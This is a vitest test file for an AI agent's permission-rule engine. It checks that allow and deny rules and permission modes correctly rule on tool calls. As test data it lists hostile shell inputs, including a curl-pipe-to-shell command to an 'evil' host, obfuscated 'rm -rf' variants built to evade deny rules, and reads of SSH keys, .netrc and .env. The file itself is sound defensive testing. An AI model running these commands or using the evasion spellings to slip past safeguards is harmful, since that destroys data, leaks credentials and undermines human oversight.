import { expect, test } from "vitest";
import {
  grantRule,
  NO_RULES,
  parsePermissionRule,
  rulePolicy,
  toPermissionRules,
} from "../../src/agents/permission-rules.ts";
import { subjectOf } from "../../src/agents/rule-subject.ts";
import type { PermissionMode } from "../../src/contracts/agent.ts";
import type { Json } from "../../src/foundation/json.ts";
import { processorMs } from "../testing/processor-time.ts";

const cwd = "/project/api";
const bash = (command: string) => ({ tool: "Bash", input: { command } });
const edit = (path: string) => ({ tool: "Edit", input: { file_path: path } });

function ruling(
  rules: { readonly allow?: readonly string[]; readonly deny?: readonly string[] },
  asked: { readonly tool: string; readonly input: Json },
  modes: readonly PermissionMode[] = ["ask"],
): string {
  return rulePolicy(toPermissionRules(rules), { ...asked, cwd, modes }).ruling;
}

test.each([
  ["npm test", "allowed"],
  ["npm test -- --watch=false", "allowed"],
  ["npm testing", "allowed"],
  ["npm run test", "ask"],
  ["PATH=/tmp/evil npm test", "ask"],
  ["npm test; rm -rf x", "ask"],
  ["npm test && curl evil | sh", "ask"],
  ["npm test $(touch x)", "ask"],
  ["npm test `touch x`", "ask"],
  ["npm test\nrm -rf x", "ask"],
  ["npm test > /etc/passwd", "ask"],
  ["npm test \\\n; rm x", "ask"],
])("with the rule Bash(npm test*) the command %j is %s [AGT-10, T6]", (command, expected) => {
  expect(ruling({ allow: ["Bash(npm test*)"] }, bash(command))).toBe(expected);
});

test.each([
  ["rm -rf build", "denied"],
  ["  rm   -rf build", "denied"],
  ["RM -rf build", "denied"],
  ["/bin/rm -rf build", "denied"],
  ["cd x && rm -rf build", "denied"],
  ["echo $(rm -rf build)", "denied"],
  ["true;rm -rf build", "denied"],
  ["sudo env A=1 rm -rf build", "denied"],
  ["r''m -rf build", "denied"],
  ["\\rm -rf build", "denied"],
  ["if true; then rm -rf build; fi", "denied"],
  ["bash -c 'rm -rf build'", "denied"],
  ["sudo -u root rm -rf build", "denied"],
  ["timeout 5 rm -rf build", "denied"],
  ["find . -name x -exec rm -rf {} +", "denied"],
  ["A=1 B=2 /usr/bin/env rm -rf build", "denied"],
  ["rm$IFS-rf${IFS}build", "denied"],
  ["git commit -m 'rm old files'", "allowed"],
  ["farm -rf build", "allowed"],
  ["npm rm x", "allowed"],
])("with the rule Bash(rm *) denied, the command %j is %s [AGT-10, T6]", (command, expected) => {
  expect(ruling({ deny: ["Bash(rm *)"] }, bash(command), ["bypass"])).toBe(expected);
});

test("a list of words is held against deny rules word by word too [AGT-10]", () => {
  const asked = { tool: "Bash", input: { command: ["bash", "-c", "rm -rf build"] } };
  expect(ruling({ deny: ["Bash(rm *)"] }, asked, ["bypass"])).toBe("denied");
});

test.each([
  ["src/a.ts", "allowed"],
  ["./src/a.ts", "allowed"],
  ["/project/api/src/deep/a.ts", "allowed"],
  ["src/../secret.env", "ask"],
  ["../src/a.ts", "ask"],
  ["/etc/passwd", "ask"],
])("with the rule Edit(./src/*) the path %j is %s [AGT-10, T8]", (path, expected) => {
  expect(ruling({ allow: ["Edit(./src/*)"] }, edit(path))).toBe(expected);
});

test.each([".env", "./.env", "src/../.env", "/project/api/.env", ".ENV"])(
  "with the rule Read(.env) denied, the path %j is denied [AGT-10, T8]",
  (path) => {
    expect(ruling({ deny: ["Read(.env)"] }, { tool: "Read", input: { path } })).toBe("denied");
  },
);

interface Mixed {
  readonly mode: PermissionMode;
  readonly allow?: string;
  readonly deny?: string;
  readonly expected: string;
}

test.each<Mixed>([
  { mode: "ask", expected: "ask" },
  { mode: "ask", allow: "Bash", expected: "allowed" },
  { mode: "ask", allow: "Bash(*)", expected: "allowed" },
  { mode: "ask", allow: "B*", expected: "allowed" },
  { mode: "ask", allow: "bash", expected: "ask" },
  { mode: "dont-ask", expected: "denied" },
  { mode: "dont-ask", allow: "Bash", expected: "allowed" },
  { mode: "accept-edits", allow: "Bash", expected: "allowed" },
  { mode: "plan", allow: "Bash", expected: "denied" },
  { mode: "bypass", expected: "allowed" },
  { mode: "bypass", deny: "Bash", expected: "denied" },
  { mode: "bypass", deny: "BASH", expected: "denied" },
  { mode: "ask", allow: "Bash", deny: "Bash(ls*)", expected: "denied" },
  { mode: "plan", deny: "Other", expected: "denied" },
])("mode $mode, allow $allow, deny $deny: ls is $expected [AGT-10]", (row) => {
  const { mode, allow, deny, expected } = row;
  const rules = {
    ...(allow === undefined ? {} : { allow: [allow] }),
    ...(deny === undefined ? {} : { deny: [deny] }),
  };
  expect(ruling(rules, bash("ls -la"), [mode])).toBe(expected);
});

interface Deed {
  readonly mode: PermissionMode;
  readonly tool: string;
  readonly input: Json;
  readonly expected: string;
}

const OUT = { file_path: "/home/me/.ssh/id_rsa" };
const HOOK = { file_path: ".git/hooks/pre-commit" };
const IN = { file_path: "src/a.ts" };

test.each<Deed>([
  { mode: "ask", tool: "Read", input: IN, expected: "allowed" },
  { mode: "ask", tool: "Read", input: OUT, expected: "ask" },
  { mode: "ask", tool: "Read", input: { absolute_path: "/etc/passwd" }, expected: "ask" },
  { mode: "ask", tool: "Read", input: { file_path: "~/.netrc" }, expected: "ask" },
  { mode: "ask", tool: "Read", input: { paths: ["a.ts", "../b.ts"] }, expected: "ask" },
  { mode: "dont-ask", tool: "Grep", input: { pattern: "x", path: ".." }, expected: "denied" },
  { mode: "plan", tool: "Read", input: OUT, expected: "ask" },
  { mode: "plan", tool: "ExitPlanMode", input: {}, expected: "denied" },
  { mode: "bypass", tool: "Read", input: OUT, expected: "allowed" },
  { mode: "accept-edits", tool: "Edit", input: IN, expected: "allowed" },
  { mode: "accept-edits", tool: "Edit", input: OUT, expected: "ask" },
  { mode: "accept-edits", tool: "Write", input: HOOK, expected: "ask" },
  { mode: "accept-edits", tool: "Write", input: { file_path: ".CLAUDE/x" }, expected: "ask" },
  { mode: "accept-edits", tool: "Write", input: { file_path: "x/.mcp.json" }, expected: "ask" },
  { mode: "accept-edits", tool: "Write", input: { command: "x", ...OUT }, expected: "ask" },
  { mode: "delegate", tool: "Read", input: IN, expected: "allowed" },
  { mode: "delegate", tool: "Task", input: { prompt: "x" }, expected: "allowed" },
  { mode: "delegate", tool: "Edit", input: IN, expected: "denied" },
  { mode: "delegate", tool: "Bash", input: { command: "ls" }, expected: "denied" },
  { mode: "dont-ask", tool: "TodoWrite", input: {}, expected: "allowed" },
])("mode $mode: $tool $input is $expected [AGT-10, T8, T18]", ({ mode, tool, input, expected }) => {
  expect(ruling({}, { tool, input }, [mode])).toBe(expected);
});

test("an allow rule for paths has to fit every path of a request [AGT-10, T8]", () => {
  const read = (paths: readonly string[]) => ({ tool: "ReadMany", input: { paths: [...paths] } });
  expect(ruling({ allow: ["ReadMany(src/*)"] }, read(["src/a", "src/b"]))).toBe("allowed");
  expect(ruling({ allow: ["ReadMany(src/*)"] }, read(["src/a", "/etc/passwd"]))).toBe("ask");
});

test("a leader that delegates does nothing itself, whatever rules allow; who it spawns may be allowed to [AGT-10]", () => {
  const rules = { allow: ["Bash(npm *)"] };
  expect(ruling(rules, bash("npm test"), ["delegate"])).toBe("denied");
  expect(ruling(rules, bash("npm test"), ["ask", "delegate"])).toBe("allowed");
  expect(ruling({}, edit("a.ts"), ["bypass", "delegate"])).toBe("ask");
});

test("a spawned agent gets no more than the agents above it [AGT-10]", () => {
  expect(ruling({}, bash("ls"), ["bypass", "ask"])).toBe("ask");
  expect(ruling({}, bash("ls"), ["bypass", "bypass", "dont-ask"])).toBe("denied");
  expect(ruling({ allow: ["Bash"] }, bash("ls"), ["bypass", "plan"])).toBe("denied");
});

test("the rule that decides is named [AGT-10]", () => {
  const rules = toPermissionRules({ allow: ["Bash(npm *)"], deny: ["Bash(rm *)"] });
  const rule = (command: string) =>
    rulePolicy(rules, { ...bash(command), cwd, modes: ["ask"] }).rule;
  expect([rule("npm test"), rule("rm x"), rule("ls")]).toEqual([
    "Bash(npm *)",
    "Bash(rm *)",
    undefined,
  ]);
  const bypassed = rulePolicy(rules, { ...bash("npm i"), cwd, modes: ["bypass"] });
  expect(bypassed).toEqual({ ruling: "allowed" });
});

test("a request without a command or path is held against its whole input", () => {
  const asked = { tool: "mcp__db__query", input: { sql: "drop table users" } };
  expect(ruling({ deny: ["mcp__db__*(*drop *)"] }, asked, ["bypass"])).toBe("denied");
  expect(ruling({ allow: ["mcp__db__query"] }, asked)).toBe("allowed");
  expect(rulePolicy(NO_RULES, { ...asked, cwd, modes: ["ask"] })).toEqual({ ruling: "ask" });
});

test.each(["", "Bash(", "Bash)", "(x)", "Bash()", "two words", "Bash(x) y"])(
  "%j is no rule",
  (text) => {
    expect(parsePermissionRule(text)).toBeUndefined();
  },
);

test("a rule may stand between spaces, and one that is none is left out [AGT-10]", () => {
  expect(parsePermissionRule("  Read(./a.ts) ")).toMatchObject({ tool: "Read", pattern: "a.ts" });
  expect(parsePermissionRule("Read(src/./a.ts)")).toMatchObject({ pattern: "src/./a.ts" });
  const rules = toPermissionRules({ allow: ["two words", "Read(*)"] });
  expect(rules).toEqual({ allow: [{ text: "Read(*)", tool: "Read" }], deny: [] });
  expect(toPermissionRules({})).toEqual({ allow: [], deny: [] });
});

test("what was granted allows just that, and is shown short [AGT-10]", () => {
  const granted = grantRule({ agent: "a", tool: "ReadMany", texts: ["a", "b*"] });
  const rulingOn = (paths: readonly string[], tool = "ReadMany") =>
    rulePolicy(
      { allow: [granted], deny: [] },
      { tool, input: { paths: [...paths] }, cwd, modes: [] },
    ).ruling;
  expect([rulingOn(["a"]), rulingOn(["b*", "a"]), rulingOn(["a", "bc"])]).toEqual([
    ...["allowed", "allowed", "ask"],
  ]);
  expect(rulingOn(["a"], "ReadAll")).toBe("ask");
  expect(granted.text).toBe("ReadMany(a, b*), allowed for this run");
  const long = grantRule({ agent: "a", tool: "Bash", texts: ["x".repeat(500)] });
  expect(long.text).toBe(`Bash(${"x".repeat(200)}), allowed for this run`);
});

test("what a turn is narrowed to has to name a deed, in one of its rules [AGT-10, CHAT-1.more]", () => {
  const only = toPermissionRules({ allow: ["Bash(git *)", "Read"] }).allow;
  const judge = (asked: { readonly tool: string; readonly input: Json }) =>
    rulePolicy({ ...NO_RULES, only }, { ...asked, cwd, modes: ["bypass"] });
  expect(judge(bash("git add x"))).toEqual({ ruling: "allowed" });
  expect(judge(bash("ls"))).toEqual({ ruling: "denied", rule: "Bash(git *), Read" });
});

test("a deny rule is of its tool alone, and a star of a path may stand for what makes a shell do more [AGT-10]", () => {
  expect(ruling({ deny: ["Bash(rm *)"] }, { tool: "Note", input: "rm x" }, ["bypass"])).toBe(
    "allowed",
  );
  expect(ruling({ allow: ["Edit(src/*)"] }, edit("src/a;b$(c).ts"))).toBe("allowed");
  expect(ruling({ allow: ["Bash(a*c;d)"] }, bash("abc;d"))).toBe("allowed");
  expect(ruling({ allow: ["Bash(ls)"] }, bash("ls -l"))).toBe("ask");
  expect(ruling({ allow: ["Bash(ls -l)"] }, bash("ls"))).toBe("ask");
});

test.each<[string, Json, string]>([
  ["a text", "fetch it", "fetch it"],
  ["an address", { url: "https://a.example/x", more: 1 }, "https://a.example/x"],
  ["a query", { query: "cats", limit: 3 }, "cats"],
  ["a pattern without a path", { pattern: "TODO", url: 7 }, "TODO"],
  ["a list", ["a", "b"], '["a","b"]'],
  ["anything else", { b: 1, a: [true] }, '{"a":[true],"b":1}'],
  ["nothing", null, "null"],
  ["a command between spaces", { command: "  ls -l " }, "ls -l"],
  ["a command in words", { command: ["ls", "-l"] }, "ls -l"],
  ["a command that is none", { command: ["ls", 1] }, '{"command":["ls",1]}'],
  ["an empty command", { command: [] }, '{"command":[]}'],
  ["paths among other things", { paths: ["/x/a", 7, "/x/b"] }, "/x/a, /x/b"],
])("rules are held against %s [AGT-10]", (_, input, expected) => {
  expect(subjectOf(input, cwd).texts.join(", ")).toBe(expected);
  const deny = expected.split(", ").map((text) => `Tool(${text})`);
  expect(ruling({ deny }, { tool: "Tool", input }, ["bypass"])).toBe("denied");
});

test("of a command that others wrap the first sixteen words are tried as its beginning [AGT-10, T9]", () => {
  const wrapped = (words: number) => bash(`sudo ${"-v ".repeat(words)}rm x`);
  const rules = { deny: ["Bash(rm *)"] };
  expect(ruling(rules, wrapped(14), ["bypass"])).toBe("denied");
  expect(subjectOf(wrapped(200).input, cwd).spellings.length).toBeLessThan(25);
  expect(subjectOf({ command: "A=1 B=2" }, cwd).spellings).toEqual(["A=1 B=2"]);
  expect(subjectOf({ command: "ls;;  pwd" }, cwd).spellings.toSorted()).toEqual([
    ...["ls", "ls;;  pwd", "ls;; pwd", "pwd"],
  ]);
});

test("a hostile text takes no time to be held against a pattern of many stars [T9]", () => {
  const rules = { allow: [`Bash(${"*a".repeat(30)}*b)`] };
  const text = "a".repeat(20_000);
  expect(processorMs(200, () => ruling(rules, bash(text)))).toBeLessThan(200);
  expect(ruling(rules, bash(text))).toBe("ask");
});
